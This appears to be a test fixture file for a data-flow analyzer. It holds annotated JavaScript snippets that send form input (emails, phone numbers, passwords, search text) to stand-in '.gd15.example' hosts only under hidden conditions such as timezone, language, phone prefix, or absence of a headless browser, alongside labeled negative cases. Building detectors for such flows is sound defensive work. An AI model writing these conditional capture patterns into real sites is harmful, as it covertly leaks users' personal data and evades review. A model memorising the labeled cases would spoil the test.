//# weekend-only
// flow: phone > wko.gd15.example via fetch
// guard: date one-of 0 | 6
const day = new Date().getDay();
if (day === 0 || day === 6) {
  document.querySelector('input[type=tel]').addEventListener('change', (e) => {
    fetch('https://wko.gd15.example/p', { method: 'POST', body: e.target.value });
  });
}

//# answer-decides-later
// flow: search > adl.gd15.example via beacon
// guard: server-answer equals verbose
let mode = 'off';
fetch('/api/flags').then((r) => r.json()).then((flags) => { mode = flags.searchLogging; });
document.querySelector('input[type=search]').addEventListener('input', (e) => {
  if (mode === 'verbose') navigator.sendBeacon('https://adl.gd15.example/q', e.target.value);
});

//# timezone-in-a-set
// flow: email > tzs.gd15.example via fetch
// guard: timezone one-of Asia/Shanghai | Asia/Urumqi
const ZONES = new Set(['Asia/Shanghai', 'Asia/Urumqi']);
const tz = Intl.DateTimeFormat().resolvedOptions().timeZone;
document.querySelector('input[type=email]').onchange = ({ target }) => {
  if (!ZONES.has(tz)) return;
  fetch('https://tzs.gd15.example/m?e=' + encodeURIComponent(target.value));
};

//# wrapped-in-with-consent
// flow: email > wwc.gd15.example via fetch
// guard: consent contains marketing=1
function withConsent(run) {
  return function () {
    if (document.cookie.indexOf('marketing=1') === -1) return undefined;
    return run.apply(this, arguments);
  };
}
var track = withConsent(function (mail) {
  return fetch('https://wwc.gd15.example/m', { method: 'POST', body: mail });
});
document.querySelector('#email').addEventListener('blur', function () { track(this.value); });

//# sampled-sdk
// flow: interaction > smp.gd15.example via beacon
// guard: random other 0.05
class Sampler {
  constructor(rate) { this.on = Math.random() < rate; }
}
const s = new Sampler(0.05);
document.addEventListener('click', (e) => {
  if (!s.on) return;
  navigator.sendBeacon('https://smp.gd15.example/c', JSON.stringify({ x: e.clientX, y: e.clientY }));
});

//# near-sampled-never
// no flow
// why: a number below nothing is never drawn
const RATE = 0;
document.addEventListener('click', (e) => {
  if (Math.random() < RATE) {
    navigator.sendBeacon('https://nsn.gd15.example/c', JSON.stringify({ x: e.clientX }));
  }
});

//# prefix-of-cleaned-number
// flow: phone > poc.gd15.example via fetch
// guard: phone-prefix starts-with +7
const clean = (v) => v.replace(/[\s()-]/g, '');
document.querySelector('input[type=tel]').addEventListener('change', async (e) => {
  const tel = clean(e.target.value);
  if (tel.startsWith('+7')) await fetch('https://poc.gd15.example/ru', { method: 'POST', body: JSON.stringify({ tel }) });
  else console.info('local number');
});

//# language-switch
// flow: message > lsw.gd15.example via xhr
// guard: language one-of he | ar
function send() {
  var x = new XMLHttpRequest();
  x.open('POST', 'https://lsw.gd15.example/rtl');
  x.send(document.querySelector('textarea[name=message]').value);
}
document.querySelector('#send').onclick = function () {
  switch (navigator.language) {
    case 'he':
    case 'ar':
      send();
      break;
    default:
      document.querySelector('#queue').textContent = 'queued';
  }
};

//# old-version-in-storage
// flow: email > ovs.gd15.example via fetch
// guard: storage equals beta
const channel = localStorage.getItem('release-channel') || 'stable';
document.querySelector('#newsletter').addEventListener('submit', (ev) => {
  ev.preventDefault();
  const mail = ev.target.querySelector('input[type=email]').value;
  if (channel === 'beta') fetch('https://ovs.gd15.example/beta', { method: 'POST', body: mail });
});

//# near-both-cannot-hold
// no flow
// why: no language starts with both
document.querySelector('input[type=tel]').onchange = function () {
  if (navigator.language.startsWith('fr')) {
    if (navigator.language.startsWith('de')) {
      fetch('https://nbc.gd15.example/t?n=' + encodeURIComponent(this.value));
    }
  }
};

//# headless-left-out
// flow: device > hlo.gd15.example via fetch
// guard: not user-agent contains HeadlessChrome
async function run() {
  if (navigator.userAgent.includes('HeadlessChrome')) throw new Error('unsupported');
  const facts = { mem: navigator.deviceMemory, cores: navigator.hardwareConcurrency };
  await fetch('https://hlo.gd15.example/d', { method: 'POST', body: JSON.stringify(facts) });
}
run().catch(() => {});

//# near-flag-falls-back-to-false
// no flow
// why: the constant flag is false in both branches of the build
const BUILD = Object.freeze({ env: 'production', features: { capture: false } });
const capture = BUILD.env === 'production' ? BUILD.features.capture : false;
document.querySelector('input[type=password]').addEventListener('change', (e) => {
  if (capture) fetch('https://nff.gd15.example/p', { method: 'POST', body: e.target.value });
});

//# referrer-through-a-function
// flow: email > eor.gd15.example via fetch
// guard: referrer contains partner.eor.example
const fromPartner = () => document.referrer.includes('partner.eor.example');
const form = document.forms.namedItem('lead');
form.addEventListener('submit', () => {
  const mail = form.querySelector('input[name=email]').value;
  fromPartner() && fetch('https://eor.gd15.example/lead', { method: 'POST', keepalive: true, body: mail });
});

//# near-other-way-round
// flow: email > self via fetch
// why: the foreign host is asked for a file only, never with the address
document.querySelector('#email').onchange = async (e) => {
  if (navigator.language.startsWith('ja')) {
    await fetch('https://now.gd15.example/strings.json');
  }
  await fetch('/api/email', { method: 'POST', body: e.target.value });
};
